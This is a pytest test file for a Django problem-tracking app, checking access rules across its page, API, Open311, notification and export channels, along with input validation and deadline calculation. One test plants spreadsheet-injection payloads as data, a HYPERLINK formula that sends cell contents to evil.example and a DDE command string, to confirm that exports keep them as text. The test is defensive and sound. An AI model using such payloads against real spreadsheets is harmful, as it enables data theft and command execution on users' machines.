"""One visibility rule, every channel: for each role, no channel shows more of a problem than the
problem's page would. Channels: the page, the REST API (detail and list), Open311 with the
person's key, the notifications they receive (in-app and e-mail), the project page's linked
problems, the exchange day's export. The anonymous public sees only what was published."""

import io
from datetime import date, datetime

import pytest
import time_machine
from openpyxl import load_workbook

from conftest import make_user
from qingdan.api.models import issue_token
from qingdan.bulletins import actions as bulletin_actions
from qingdan.exchange import actions as exchange_actions
from qingdan.lib import clock
from qingdan.notifications.models import Delivery, Notification, Subscription
from qingdan.problems import actions
from qingdan.projects.models import Project

pytestmark = pytest.mark.django_db


@pytest.fixture
def world(cast, make_problem, category):
    team = make_user("t-team", "team", name="研究团队", email="team@example.org")
    people = {
        "acme": cast.acme_contact,
        "globex": cast.globex_contact,
        "power": cast.power_officer,
        "water": cast.water_officer,
        "secretariat": cast.secretariat,
        "leader": cast.leader,
        "team": team,
    }
    # Everyone follows everything they may follow: what they hear is still only what they see.
    for person in people.values():
        Subscription.objects.get_or_create(user=person, category=category)
    problem = make_problem("in_progress", title="厂区线路跳闸")
    actions.report_progress(problem, actor=cast.power_officer, note="已派员检修，联系人13800000000")
    actions.complete(problem, actor=cast.power_officer, report="已更换开关")
    project = Project.objects.create(
        name="智能装备产业园",
        investor=cast.globex,
        industry="smart_equipment",
        amount_wan_yuan=1000,
        responsible_unit=cast.water,
    )
    project.problems.add(problem)
    return people, problem, project


# Who may see Acme's problem handled by the power company.
SEES = {"acme", "power", "secretariat", "leader"}


def test_no_channel_shows_more_than_the_problem_page(client, world):
    people, problem, project = world
    for name, person in people.items():
        client.force_login(person)
        page = client.get(problem.get_absolute_url()).status_code
        assert (page == 200) == (name in SEES), name
        api = client.get(f"/api/v1/problems/{problem.number}").status_code
        assert (api == 200) == (name in SEES), name
        listed = client.get("/api/v1/problems").json()["items"]
        assert (problem.number in {p["number"] for p in listed}) == (name in SEES), name
        key = issue_token(person, name="m")[1]
        open311 = client.get(f"/open311/v2/requests/{problem.number}.json", {"api_key": key})
        assert (open311.status_code == 200) == (name in SEES), name
        told = Notification.objects.filter(recipient=person, problem=problem).exists()
        mailed = Delivery.objects.filter(recipient=person, subject__contains=problem.number)
        if name not in SEES:
            assert not told and not mailed.exists(), name
        client.logout()


def test_the_project_page_lists_only_linked_problems_the_person_may_see(client, world, cast):
    people, problem, project = world
    client.force_login(cast.water_officer)  # responsible for the project, not for the problem
    page = client.get(f"/projects/{project.pk}/")
    assert page.status_code == 200 and problem.title not in page.content.decode()
    client.force_login(cast.secretariat)
    assert problem.title in client.get(f"/projects/{project.pk}/").content.decode()


def test_anonymous_open311_and_api_show_nothing_unpublished(client, world):
    _people, problem, _project = world
    assert client.get("/open311/v2/requests.json").json() == []
    assert client.get(f"/open311/v2/requests/{problem.number}.json").status_code == 404
    assert client.get(f"/api/v1/problems/{problem.number}").status_code == 401


# --- Encoded for where it lands ---------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"详情")'


def _cells(data: bytes) -> list:
    sheet = load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_exports_never_turn_text_into_formulas(client, cast, make_problem):
    day = exchange_actions.record_exchange_day(
        actor=cast.secretariat, day=date(2026, 11, 30), chair="主任"
    )
    problem = make_problem(title=FORMULA)
    problem.exchange_day = day
    problem.save(update_fields=["exchange_day"])
    Project.objects.create(
        name="+cmd|' /C calc'!A0", investor=cast.acme, industry="electronics", amount_wan_yuan=1
    )
    client.force_login(cast.secretariat)
    for url in ("/exchange/2026-11-30/problems.xlsx", "/projects/projects.xlsx"):
        response = client.get(url)
        assert response.status_code == 200, url
        risky = [c for c in _cells(response.content) if str(c.value)[:1] in "=+-@"]
        assert risky, url
        assert all(c.data_type == "s" for c in risky), url  # text, never a formula


def test_challenge_ratings_do_not_name_enterprises_that_were_promised_anonymity(
    client, cast, make_problem
):
    from datetime import timedelta

    from qingdan.challenges import actions as challenge_actions
    from qingdan.challenges.models import Rating, State

    today = clock.today()
    challenge = challenge_actions.create(
        actor=cast.secretariat,
        title="电网改造",
        goal="减少停电",
        owner_unit=cast.power,
        application_deadline=today + timedelta(days=5),
        delivery_deadline=today + timedelta(90),
        enterprises=[cast.acme],
    )
    type(challenge).objects.filter(pk=challenge.pk).update(state=State.ACCEPTING)
    challenge.refresh_from_db()
    challenge_actions.rate(
        challenge, actor=cast.acme_contact, satisfaction="satisfied", comment="湖南甲电子很满意"
    )
    assert Rating.objects.get().enterprise == cast.acme
    client.force_login(cast.globex_contact)
    page = client.get(challenge.get_absolute_url()).content.decode()
    assert cast.acme.name not in page and "湖南甲电子" not in page
    assert cast.acme_contact.name not in page
    client.force_login(cast.secretariat)
    assert cast.acme.name in client.get(challenge.get_absolute_url()).content.decode()


def test_bad_inputs_are_refused_with_a_message_never_a_server_error(client, cast, make_problem):
    auth = {"HTTP_AUTHORIZATION": f"Bearer {issue_token(cast.secretariat, name='x')[1]}"}
    body = {
        "title": "长" * 121,
        "description": "x",
        "category": "utilities",
        "enterprise": cast.acme.credit_code,
    }
    import json

    def post(data):
        return client.post(
            "/api/v1/problems", json.dumps(data), content_type="application/json", **auth
        )

    assert post(body).status_code == 422
    assert post(body | {"title": "停\x00电"}).status_code == 400  # refused before any view
    year_one_cursor = "MDAwMS0wMS0wMVQwMDowMF8x"  # "0001-01-01T00:00_1", base64
    for params in (
        {"unit": "²"},
        {"raised_after": "0001-01-01"},
        {"raised_after": ["2026-01-01", "x"]},
        {"cursor": year_one_cursor},
    ):
        response = client.get("/api/v1/problems", params, **auth)
        assert response.status_code in (400, 422), params
    client.force_login(cast.secretariat)
    for params in ({"category": "²"}, {"unit": "²"}, {"unit": "1" * 30}):
        assert client.get("/problems/", params).status_code == 200, params
    old = client.get("/open311/v2/requests.json", {"end_date": "0001-01-01T00:00:00Z"})
    assert old.status_code == 400
    problem = make_problem("accepted")
    far = client.post(
        f"/api/v1/problems/{problem.number}/actions/assign",
        json.dumps({"lead_unit": cast.power.pk, "deadline": "9999-12-31"}),
        content_type="application/json",
        **auth,
    )
    assert far.status_code == 422 and problem.events.count() == 2


def test_assigning_through_the_api_takes_the_categorys_deadlines_like_the_web(
    client, cast, make_problem
):
    import json

    with time_machine.travel(datetime(2026, 11, 23, 10, 0, tzinfo=clock.BEIJING), tick=False):
        problem = make_problem("accepted")
        auth = {"HTTP_AUTHORIZATION": f"Bearer {issue_token(cast.secretariat, name='x')[1]}"}
        response = client.post(
            f"/api/v1/problems/{problem.number}/actions/assign",
            json.dumps({"lead_unit": cast.power.pk}),
            content_type="application/json",
            **auth,
        )
    assert response.status_code == 200, response.json()
    # The category gives 1 working day to sign and 5 to complete, from Monday 23 November.
    assert response.json()["sign_deadline"] == "2026-11-24"
    assert response.json()["deadline"] == "2026-11-30"
    event = problem.events.get(action="assign")
    assert event.payload["deadline"] == "2026-11-30"


def test_published_rows_reach_open311_without_notes(client, cast, make_problem):
    with time_machine.travel(datetime(2026, 11, 16, 19, 30, tzinfo=clock.BEIJING), tick=False):
        problem = make_problem("in_progress")
    actions.report_progress(problem, actor=cast.power_officer, note="内部电话13800000000")
    with time_machine.travel(datetime(2026, 11, 23, 9, 0, tzinfo=clock.BEIJING), tick=False):
        draft = bulletin_actions.generate_draft(date(2026, 11, 16), actor=cast.secretariat)
        bulletin_actions.publish(draft, actor=cast.secretariat, confirm=True)
    row = client.get(f"/open311/v2/requests/{problem.number}.json").json()[0]
    assert row["status_notes"] == "" and "13800000000" not in str(row)
